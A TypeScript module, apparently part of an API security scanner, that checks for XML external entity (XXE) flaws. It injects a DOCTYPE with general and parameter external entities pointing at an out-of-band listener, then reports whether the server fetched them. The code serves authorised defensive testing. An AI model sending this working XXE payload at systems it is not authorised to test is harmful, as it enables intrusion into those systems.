import { injectionScanCheck } from '../injection/adapter.js';
import { defineInjectionCheck, type InjectionResult } from '../injection/check.js';
import { Inconclusive, toEvidence } from '../injection/probe.js';

const meta = {
  id: 'scan/xml-external-entity',
  title: 'XML external entity (XXE)',
  severity: 'high',
  confidence: 'high',
  domain: 'injection',
  owasp: ['API8:2023'],
  cwe: ['CWE-611'],
  description:
    'Sends the operation\'s XML body with a DOCTYPE declaring external entities (a general and a parameter entity) that point at unique URLs of the out-of-band listener; a fetch of either proves the parser resolves external entities.',
  remediation:
    'Disable DTD processing (or at least external entities and parameter entities) in the XML parser; accept JSON where possible.',
  references: [
    'https://cwe.mitre.org/data/definitions/611.html',
    'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
  ],
  messages: {
    entityResolved: 'The XML body\'s parser resolves external entities: the {kind} entity made the server fetch {request} from the listener.',
  },
} as const;

const XML_TYPE = /[/+]xml\b/i;

function xmlBody(text: string, general: string, parameter: string): string {
  const noDecl = text.replace(/^\s*<\?xml[^>]*\?>\s*/i, '').replace(/<!DOCTYPE[^>[]*(\[[\s\S]*?\])?\s*>\s*/i, '');
  const root = /<([A-Za-z_][\w.-]*)/.exec(noDecl)?.[1] ?? 'root';
  const withRef = /<[A-Za-z_][^>]*[^/]>/.test(noDecl) ? noDecl.replace(/(<[A-Za-z_][^>]*[^/]>)/, '$1&rmpx;') : `<${root}>&rmpx;</${root}>`;
  return `<?xml version="1.0"?>\n<!DOCTYPE ${root} [\n  <!ENTITY rmpx SYSTEM "${general}">\n  <!ENTITY % rmpp SYSTEM "${parameter}">\n  %rmpp;\n]>\n${withRef}`;
}

export default injectionScanCheck(
  defineInjectionCheck({
  meta,
  places: ['body'],
  async testOperation(ctx): Promise<InjectionResult[]> {
    if (!ctx.oob) return [];
    const b = ctx.base.body;
    const isXml = (b?.kind === 'raw' && XML_TYPE.test(b.contentType)) || ctx.bodyMediaTypes.some((m) => XML_TYPE.test(m));
    if (!isXml) return [];
    const contentType = b?.kind === 'raw' && XML_TYPE.test(b.contentType) ? b.contentType : (ctx.bodyMediaTypes.find((m) => XML_TYPE.test(m)) ?? 'application/xml');
    const original = b?.kind === 'raw' ? b.text : '<root>rampart</root>';
    const g = ctx.oob.newToken();
    const p = ctx.oob.newToken();
    const text = xmlBody(original, g.url, p.url);
    const ex = await ctx.prober.send({ ...ctx.base, body: { kind: 'raw', contentType, text } });
    const seenG = await ctx.oob.wait(g.token, ctx.options.oobWaitMs ?? 3000);
    const seenP = seenG.length > 0 ? [] : await ctx.oob.wait(p.token, 500);
    const seen = seenG.length > 0 ? seenG : seenP;
    if (seen.length === 0) {
      if (!ex.outcome.ok) throw new Inconclusive(`${ex.outcome.reason}: ${ex.outcome.message}`, `${ex.wire.method} ${ex.wire.target}`);
      return [];
    }
    const kind = seenG.length > 0 ? 'general' : 'parameter';
    const i = seen[0]!;
    return [
      {
        messageId: 'entityResolved',
        data: { kind, request: i.summary },
        title: 'XML external entity resolved in the request body',
        point: { in: 'body', name: '(XML document)' },
        evidence: {
          summary: `The ${kind} external entity's unique URL was fetched by ${i.from}: ${i.summary}.`,
          payload: text,
          exchanges: [toEvidence(ex, 'probe')],
          data: { interaction: { protocol: i.protocol, from: i.from, summary: i.summary }, entity: kind },
        },
      },
    ];
  },
}),
);
